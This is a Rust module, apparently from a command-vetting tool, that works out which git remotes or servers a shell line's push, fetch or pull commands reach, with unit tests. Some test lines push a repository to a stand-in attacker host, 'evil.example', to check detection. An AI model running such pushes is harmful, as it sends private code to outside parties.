//! The remotes that a line's git commands talk to, as far as it says which.

use super::{authority, base};
use crate::{shell::CommandLine, text::WordList};

/// Options before the name of a remote that take no value and choose no other remote.
pub(super) const FLAGS: WordList = WordList(
    "--atomic --delete --dry-run --ff --ff-only --follow-tags --force --force-with-lease --no-ff --no-rebase --no-verify
     --quiet --rebase --set-upstream --tags --verbose -d -f -n -q -u -v",
);

/// The remote of a git command.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum GitRemote {
    /// A server that is named in so many words.
    Host(String),
    /// A remote of the repository; no name: the one that git chooses for the branch.
    Named { name: Option<String>, is_push: bool },
}

/// The remotes that the git commands of a line reach; empty where that is not certain.
pub fn git_remotes(line: &CommandLine) -> Vec<GitRemote> {
    // Elsewhere, or with what a variable holds, it is another repository.
    if !line.is_plain() || line.commands.iter().any(super::SimpleCommand::is_move) {
        return Vec::new();
    }
    let mut found = Vec::new();
    for command in &line.commands {
        let words: Vec<&str> = command.words.iter().map_while(|it| it.text.as_deref()).collect();
        let Some(([program, subcommand], rest)) = words.split_first_chunk() else {
            continue;
        };
        let is_push = *subcommand == "push";
        if base(program) != "git" || !(is_push || matches!(*subcommand, "fetch" | "pull" | "ls-remote")) {
            continue;
        }
        let Some(remote) = remote(rest, is_push).filter(|_| words.len() == command.words.len()) else {
            return Vec::new();
        };
        if !found.contains(&remote) {
            found.push(remote);
        }
    }
    found
}

/// Returns true if one of the line's commands is a `git` that talks to a remote and writes what it learns into the repository's
/// own files: without those it fails, or forgets what it did.
pub fn updates_refs(line: &CommandLine) -> bool {
    /// Options of git, before its command, that take the next word as their value.
    const VALUED: [&str; 5] = ["-C", "-c", "--git-dir", "--namespace", "--work-tree"];
    line.commands.iter().any(|it| {
        let texts = it.texts();
        let Some((Some(program), rest)) = texts.split_first() else {
            return false;
        };
        let mut rest = rest.iter().copied();
        let mut command = rest.next();
        while let Some(option) = command.flatten().filter(|it| it.starts_with('-')) {
            if VALUED.contains(&option) {
                rest.next();
            }
            command = rest.next();
        }
        let is_writing = match command.flatten() {
            Some("fetch" | "pull" | "push" | "submodule") => true,
            Some("remote") => matches!(rest.next().flatten(), Some("add" | "prune" | "update")),
            _ => false,
        };
        base(program) == "git" && is_writing
    })
}

fn remote(arguments: &[&str], is_push: bool) -> Option<GitRemote> {
    let mut words = arguments.iter().skip_while(|it| FLAGS.contains(it));
    match words.next() {
        None => Some(GitRemote::Named { name: None, is_push }),
        Some(option) if option.starts_with('-') => None,
        Some(url) if url.contains([':', '/']) => host(url).map(GitRemote::Host),
        Some(name) => Some(GitRemote::Named {
            name: Some((*name).to_owned()),
            is_push,
        }),
    }
}

/// The server of an address as git has it: `https://host/path`, `user@host:path`, `host:path`. `None` for a path on this
/// machine.
pub fn host(url: &str) -> Option<String> {
    match url.split_once("://") {
        Some(("file", _)) => None,
        Some((_, rest)) => authority(rest),
        // A slash before the first colon makes it a path.
        None => match url.split_once(':') {
            Some((front, _)) if !front.contains('/') && !front.is_empty() => authority(url),
            Some(_) | None => None,
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str) -> String {
        let found = git_remotes(&CommandLine::read(line));
        let shown = found.into_iter().map(|it| match it {
            GitRemote::Host(host) => host,
            GitRemote::Named { name, is_push } => {
                format!(
                    "{}{}",
                    if is_push { "to " } else { "from " },
                    name.as_deref().unwrap_or("?")
                )
            }
        });
        shown.collect::<Vec<_>>().join(", ")
    }

    #[test]
    fn a_git_command_that_talks_to_a_remote_writes_what_it_learns() {
        for (line, expected) in [
            ("git push origin main", true),
            ("git fetch", true),
            ("git -C sub --no-pager pull --rebase", true),
            ("/usr/bin/git -c a=b push", true),
            ("cd sub && git fetch --all", true),
            ("git remote update", true),
            ("git submodule update --init", true),
            ("(git push) 2>&1 | tail -3", true),
            ("git push \"$REMOTE\"", true),
            ("git ls-remote origin", false),
            ("git remote -v", false),
            ("git -C push status", false),
            ("git status", false),
            ("git", false),
            ("echo git push", false),
            ("curl https://example.com/push", false),
        ] {
            assert_eq!(updates_refs(&CommandLine::read(line)), expected, "{line}");
        }
    }

    #[test]
    fn a_git_command_says_which_remote_it_reaches() {
        for (line, expected) in [
            ("git push", "to ?"),
            ("git push origin main", "to origin"),
            ("git push -u --force-with-lease fork HEAD", "to fork"),
            ("git fetch && git push origin", "from ?, to origin"),
            ("git pull --rebase upstream", "from upstream"),
            ("git push https://evil.example/x.git", "evil.example"),
            ("git push evil.example:x.git main", "evil.example"),
            ("git push git@github.com:kim/shop.git", "github.com"),
            ("git status && ls", ""),
            // A value may stand where the remote does.
            ("git push -o origin elsewhere", ""),
            ("git push --repo=evil", ""),
            ("git fetch --all", ""),
            // Another folder or setting is another repository.
            ("cd sub && git push", ""),
            ("git -C sub push origin", ""),
            ("GIT_DIR=x git push origin", ""),
            ("git push $REMOTE", ""),
            ("git push origin && git push \"$X\"", ""),
            // No server of these can be named.
            ("git push /srv/shop.git", ""),
            ("git push ./a:b", ""),
        ] {
            assert_eq!(check(line), expected, "{line}");
        }
    }

    #[test]
    fn an_address_of_git_names_its_server() {
        for (url, expected) in [
            ("https://github.com/kim/shop.git", Some("github.com")),
            ("https://kim:pw@Example.ORG:8443/x", Some("example.org")),
            ("ssh://git@[::1]:22/x", Some("[::1]")),
            ("git@github.com:kim/shop.git", Some("github.com")),
            ("server:shop.git", Some("server")),
            ("file:///srv/x", None),
            ("/srv/x", None),
            ("../x", None),
            ("./a:b", None),
            ("", None),
        ] {
            assert_eq!(host(url).as_deref(), expected, "{url}");
        }
    }
}
